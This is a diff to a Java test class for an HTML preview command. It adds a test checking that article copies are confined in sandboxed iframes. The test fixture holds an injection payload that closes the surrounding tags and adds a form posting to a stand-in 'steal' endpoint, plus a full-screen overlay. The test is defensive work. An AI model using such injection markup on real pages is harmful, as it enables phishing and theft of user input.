@@ -22,7 +22,6 @@ class PreviewCommandTest {
 
     private static final Pattern MARKER = Pattern.compile("<div class=\"as-b as-(?:used|unused)\" data-boundary=\"\\d+\"><a [^>]*>[^<]*</a></div>");
     private static final Pattern SLOT = Pattern.compile("<div class=\"as-slot\" data-slot=\"[^\"]*\" style=\"height:\\d+px\">.*?</div>");
-    private static final Pattern ARTICLE = Pattern.compile("<div class=\"as-article\">(.*?)</div></template>", Pattern.DOTALL);
 
     @TempDir
     Path dir;
@@ -90,6 +89,25 @@ class PreviewCommandTest {
     }
 
     @Test
+    @DisplayName("contains each article copy in a sandboxed frame, whatever end tags the article holds")
+    void articleIsSandboxed() throws Exception {
+        Path hostile = Files.writeString(dir.resolve("hostile.html"), Files.readString(fixtures.resolve("articles/harbour.html"))
+                + "</template></iframe></div><form action=\"http://example.invalid/steal\"><input name=q></form>"
+                + "<div style=\"position:fixed;inset:0\">overlay</div>");
+        CliRun run = CliRun.run(dir, "preview", "-o", "p.html", hostile.toString());
+        assertThat(run.code()).as(run.err()).isZero();
+
+        org.jsoup.nodes.Document page = Jsoup.parse(dir.resolve("p.html").toFile());
+        assertThat(page.select("form, template, [style*=position:fixed]")).isEmpty();
+        assertThat(page.select("iframe.as-frame")).hasSize(3).allSatisfy(frame -> {
+            assertThat(frame.attr("sandbox")).isEqualTo("allow-same-origin");
+            assertThat(frame.hasAttr("src")).isFalse();
+            assertThat(frame.attr("srcdoc")).contains("<form action=\"http://example.invalid/steal\">")
+                    .contains("content=\"default-src 'none';");
+        });
+    }
+
+    @Test
     @DisplayName("shows the article byte for byte: each copy minus the markers and slots is the source")
     void articleUnchanged() throws Exception {
         for (String name : List.of("harbour.html", "messy.html")) {
@@ -121,11 +139,14 @@ class PreviewCommandTest {
         assertThat(dir.resolve("p.html")).doesNotExist();
     }
 
+    /** The article copies, as the frames' documents hold them (the srcdoc attributes, unescaped). */
     private static List<String> articleCopies(String html) {
         List<String> copies = new ArrayList<>();
-        Matcher m = ARTICLE.matcher(html);
-        while (m.find()) {
-            copies.add(m.group(1));
+        for (org.jsoup.nodes.Element frame : Jsoup.parse(html).select("iframe.as-frame")) {
+            String doc = frame.attr("srcdoc");
+            int start = doc.indexOf(PreviewPage.FRAME_ARTICLE_START) + PreviewPage.FRAME_ARTICLE_START.length();
+            assertThat(doc).endsWith(PreviewPage.FRAME_ARTICLE_END);
+            copies.add(doc.substring(start, doc.length() - PreviewPage.FRAME_ARTICLE_END.length()));
         }
         return copies;
     }
